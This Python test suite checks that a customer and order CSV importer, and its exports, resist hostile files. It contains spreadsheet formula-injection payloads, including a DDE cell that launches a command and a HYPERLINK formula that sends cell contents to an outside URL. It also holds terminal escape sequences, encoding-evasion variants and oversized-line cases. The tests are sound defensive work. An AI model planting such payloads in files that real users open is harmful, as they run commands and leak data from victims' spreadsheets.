"""CSV files made to break the importer, the report's reader or the terminal; and an export that spreadsheets open."""

import asyncio
import csv
import io
import random
import time
import tracemalloc
from collections.abc import Awaitable, Callable, Iterator
from functools import partial
from pathlib import Path

import pytest
from typer.testing import CliRunner

from app.access.shops import Shop
from app.cli.main import app as cli
from app.imports import customer_rows, order_rows
from app.imports.client import ImportResult
from app.imports.errors import FileRefused
from tests.conftest import Api, Rows
from tests.imports.files import opened, put_in

Work = Callable[[], Awaitable[None]]

long = partial(pytest.param, marks=[pytest.mark.hostile_long, pytest.mark.timeout(1200)])

# Whatever a spreadsheet runs, in the spellings that it also takes for it.
FORMULAS = [
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        '=HYPERLINK("http://a/"&A1)',
        "=cmd|' /C calc'!A0",
        "＝1+1",
        "＋1",
        "－1",
        "＠A",
    ),
    *("  =1+1", "\u3000=1+1", '"=1+1"', "'=1+1", "=", "-", "==", "=\u00a01", "\ufeff=1+1", "\u200b=1+1", "﹦1+1", "⁼1"),
    *("|calc", "%0A=1", ";=1+1", ",=1+1", "\t=1+1", "\r=1+1", "\n=1+1", "=1\n=2", 'DDE("cmd")', "=\x1b[2J"),
]
STARTS = "=+-@\t\r\n|%＝＋－＠"
MEMORY_BYTES = 24 << 20


def harmless(text: str) -> bool:
    """Whether every cell of a CSV can be opened: none starts like a formula, seen as a spreadsheet sees it."""
    cells = [cell for line in csv.reader(io.StringIO(text.removeprefix("\ufeff"))) for cell in line]
    assert cells
    return not [cell for cell in cells if cell.lstrip(" ").startswith(tuple(STARTS))]


async def imported(api: Api, address: str, path: Path, work: Work, *, orders: bool = False) -> ImportResult:
    """The file through the public calls of the running service."""
    return await put_in("orders" if orders else "customers", path, api, address, work)


def report_of(result: ImportResult) -> str:
    """The text of the refused rows; empty when there are none."""
    return result.report_path.read_text() if result.report_path else ""


# ---- Formulas


@pytest.mark.parametrize("column", ["mobile", "gender", "birthday", "email", "store_id", "member_since"])
async def test_formulas_in_the_report(api: Api, address: str, tmp_path: Path, work: Work, column: str) -> None:
    """Cells that are refused are never quoted in the reason."""
    path = tmp_path / "customers.csv"
    with path.open("w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["card_no", column])
        writer.writerows([f"C{number}", formula] for number, formula in enumerate(FORMULAS))
    result = await imported(api, address, path, work)
    assert result.refused > 20
    assert harmless(report_of(result))


async def test_formulas_in_order_files(api: Api, address: str, tmp_path: Path, work: Work) -> None:
    """Neither are order numbers, nor by the rooms that refuse."""
    path = tmp_path / "orders.csv"
    with path.open("w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["order_no", "card_no", "paid_at", "amount", "channel"])
        writer.writerows([formula, "C1", "2026-01-01", "1", "shop"] for formula in FORMULAS)
        writer.writerows([f"E{n}", "C1", "2026-01-01", "1", formula * 20] for n, formula in enumerate(FORMULAS))
        writer.writerows([f"F{n}", "C1", formula, formula, ""] for n, formula in enumerate(FORMULAS))
    result = await imported(api, address, path, work, orders=True)
    assert result.refused > 20
    assert harmless(report_of(result))


async def test_formulas_in_the_exported_scores(
    api: Api, address: str, tmp_path: Path, work: Callable[[], Awaitable[None]], shop: Shop
) -> None:
    """An external id is whatever the source says; in the export it is a text."""
    customers = [
        {"identities": [{"kind": "external_id", "value": formula, "scope": "pos"}]}
        for formula in FORMULAS
        if formula.strip().isprintable()
    ]
    made = (await api.post("/v1/customers/batch", {"customers": customers})).json()
    assert made["created"] > 15
    await api.post("/v1/triggers/rescore", {})
    await work()
    for unmasked in (True, False):
        out = tmp_path / f"scores{unmasked}.csv"
        arguments = ["export", "scores", str(out), "--format", "csv", "--url", address, "--api-key", api.client.api_key]
        arguments += ["--unmasked", "--reason", "a test of cells"] if unmasked else []
        running = asyncio.create_task(asyncio.to_thread(CliRunner().invoke, cli, arguments))
        while not running.done():
            await work()
            await asyncio.sleep(0.05)
        ran = await running
        assert ran.exit_code == 0, ran.output
        lines = list(csv.reader(io.StringIO(out.read_text("utf-8-sig"))))
        assert len(lines) == made["created"] + 1
        assert harmless(out.read_text())


async def test_a_file_cannot_write_to_the_terminal(api: Api, address: str, tmp_path: Path, work: Work) -> None:
    """Column names and reasons that hold control characters are shown without them."""
    for header in ("mobile,\x1b]0;owned\x07\x1b[2J\x9b1m,[red]name[/red]\n1,2,3\n", "\x1b[31mnothing\x1b[0m\n1\n"):
        path = tmp_path / "odd.csv"
        path.write_text(header)
        arguments = ["import", "customers", str(path), "--url", address, "--api-key", api.client.api_key]
        running = asyncio.create_task(asyncio.to_thread(CliRunner().invoke, cli, arguments))
        while not running.done():
            await work()
            await asyncio.sleep(0.05)
        ran = running.result()
        assert ran.exit_code in (1, 3)
        assert not {"\x1b", "\x07", "\x9b"} & set(ran.output), ran.output


# ---- Encodings and shapes

HEADER = "手机号,姓名,备注\n"


def _mixed(chance: random.Random) -> tuple[bytes, int]:
    """A file whose lines are in whatever encoding their writer had, and how many of them there are."""
    encodings = ["utf-8"] * 5 + ["gbk", "gb18030", "big5", "shift-jis", "utf-16-le", "latin-1", "utf-8-sig", "utf-7"]
    rows = [f"154{number:08},陈雨,喜欢{number}\n" for number in range(60)]
    lines = [row.encode(chance.choice(encodings), "replace") for row in rows]
    return chance.choice([b"", b"\xef\xbb\xbf", b"\xef\xbb\xbf\xef\xbb\xbf"]) + HEADER.encode() + b"".join(lines), 60


async def test_lines_in_other_encodings_are_left_out_and_the_others_kept(
    api: Api, address: str, tmp_path: Path, work: Work, rows: Rows, shop: Shop
) -> None:
    path = tmp_path / "mixed.csv"
    good = [f"154{number:08},陈雨,清淡\n".encode() for number in range(40)]
    bad = [f"155{number:08},李雪,香型\n".encode("gbk") for number in range(10)]
    lines = [line for pair in zip(good, bad * 4, strict=True) for line in pair]
    path.write_bytes(b"\xef\xbb\xbf" + HEADER.encode() + b"".join(lines))
    result = await imported(api, address, path, work)
    assert (result.created, result.refused, result.rows) == (40, 40, 80)
    assert report_of(result).count("the line is not UTF-8 text") == 40
    names = (await api.get("/v1/customers", params={"limit": 200})).json()["items"]
    assert {row["name"] for row in names} == {"陈雨"}


@pytest.mark.parametrize("encoding", ["gbk", "gb18030", "utf-8", "utf-8-sig"])
async def test_one_encoding_throughout_is_read(
    api: Api, address: str, tmp_path: Path, work: Work, encoding: str
) -> None:
    path = tmp_path / "gbk.csv"
    path.write_bytes((HEADER + "15400000001,王小明,〇㐀\n").encode(encoding, "replace"))
    result = await imported(api, address, path, work)
    assert (result.created, result.refused) == (1, 0)
    assert (await api.get("/v1/customers")).json()["items"][0]["name"] == "王小明"


@pytest.mark.parametrize("files", [60, long(5_000)])
def test_any_bytes_are_rows_or_a_refusal(tmp_path: Path, files: int) -> None:
    """Mixed encodings, ragged rows, stray quotes and noise: a line is a row or a fault, and nothing else happens."""
    path = tmp_path / "noise.csv"
    refused = 0
    for seed in range(files):
        chance = random.Random(seed)
        content, lines = _mixed(chance)
        damaged = bytearray(content)
        for _ in range(chance.choice([0, 1, 20, 500])):
            place = chance.randrange(len(damaged))
            noise = chance.choice([b'"', b"\n", b"\r", b"\0", b",", b";", b"\t", b'""', b'",', chance.randbytes(3)])
            damaged[place : place + chance.randrange(3)] = noise
        path.write_bytes(damaged)
        for layout in (customer_rows.LAYOUT, order_rows.LAYOUT):
            try:
                with opened(path, layout) as file:
                    assert len(list(file.rows)) == file.rows_read <= damaged.count(b"\n") + damaged.count(b"\r") + 2
            except FileRefused:
                refused += 1
        assert lines
    assert refused < files * 2


async def test_ragged_rows(api: Api, address: str, tmp_path: Path, work: Work) -> None:
    """Rows of any width: what has too many cells is refused, what has too few lacks them."""
    path = tmp_path / "ragged.csv"
    chance = random.Random(7)
    lines = [["mobile", "name", "remark", "gender"]]
    lines += [[f"154{n:08}", *("x" for _ in range(chance.choice([0, 1, 2, 5, 300])))] for n in range(200)]
    path.write_text("\n".join(",".join(line) for line in lines))
    result = await imported(api, address, path, work)
    wide = sum(len(line) > 4 for line in lines)
    assert (result.created, result.refused) == (200 - wide, wide)
    assert result.rows == 200


# ---- Size


def _line(kind: str, size: int) -> Iterator[bytes]:
    """One line of about that size, in pieces."""
    piece = {"letters": b"a", "quotes": b'"', "commas": b",", "open": b"x", "zeros": b"\0", "wide": "王".encode()}[kind]
    if kind == "open":
        yield b'"'
    block = piece * ((1 << 20) // len(piece))
    for _ in range(size // len(block)):
        yield block


@pytest.mark.parametrize(
    ("kind", "place", "size"),
    [
        *(("letters", "row", 64 << 20), ("open", "row", 64 << 20), ("zeros", "header", 64 << 20)),
        *(
            long(kind, place, 1 << 30)
            for kind in ("letters", "quotes", "commas", "open", "zeros", "wide")
            for place in ("row", "header")
        ),
    ],
)
def test_one_endless_line(tmp_path: Path, kind: str, place: str, size: int) -> None:
    """A line of 64 MB, or of 1 GB, costs its own row and not the memory; as a header it is refused."""
    path = tmp_path / "endless.csv"
    with path.open("wb") as file:
        if place == "row":
            file.write(b"mobile,name\n15400000001,A\n")
        if kind == "zeros":
            file.truncate(file.tell() + size)  # sparse
            file.seek(0, 2)
        else:
            file.writelines(_line(kind, size))
        file.write(b"\n15400000002,B\n")
    tracemalloc.start()
    try:
        if place == "header":
            with pytest.raises(FileRefused, match="longer than"), opened(path, customer_rows.LAYOUT):
                pass
        else:
            with opened(path, customer_rows.LAYOUT) as file:
                rows = list(file.rows)
            assert [row.cells.get("name") for row in rows if not row.fault] == ["A", "B"]
            assert len([row for row in rows if row.fault]) == 1
        assert tracemalloc.get_traced_memory()[1] < MEMORY_BYTES
    finally:
        tracemalloc.stop()
        path.unlink()


@pytest.mark.parametrize("line", ['1,"A\n', '"\n', '1,A"\n', '1,"A""\n', ',"",\n', '1,"A" \n', "\r", "'\n"])
def test_quotes_that_never_end_take_no_longer_than_other_lines(tmp_path: Path, line: str) -> None:
    path = tmp_path / "quotes.csv"
    path.write_text("mobile,name\n" + line * (400_000 // len(line)))
    started = time.monotonic()
    with opened(path, customer_rows.LAYOUT) as file:
        for _ in file.rows:
            pass
    assert time.monotonic() - started < 15
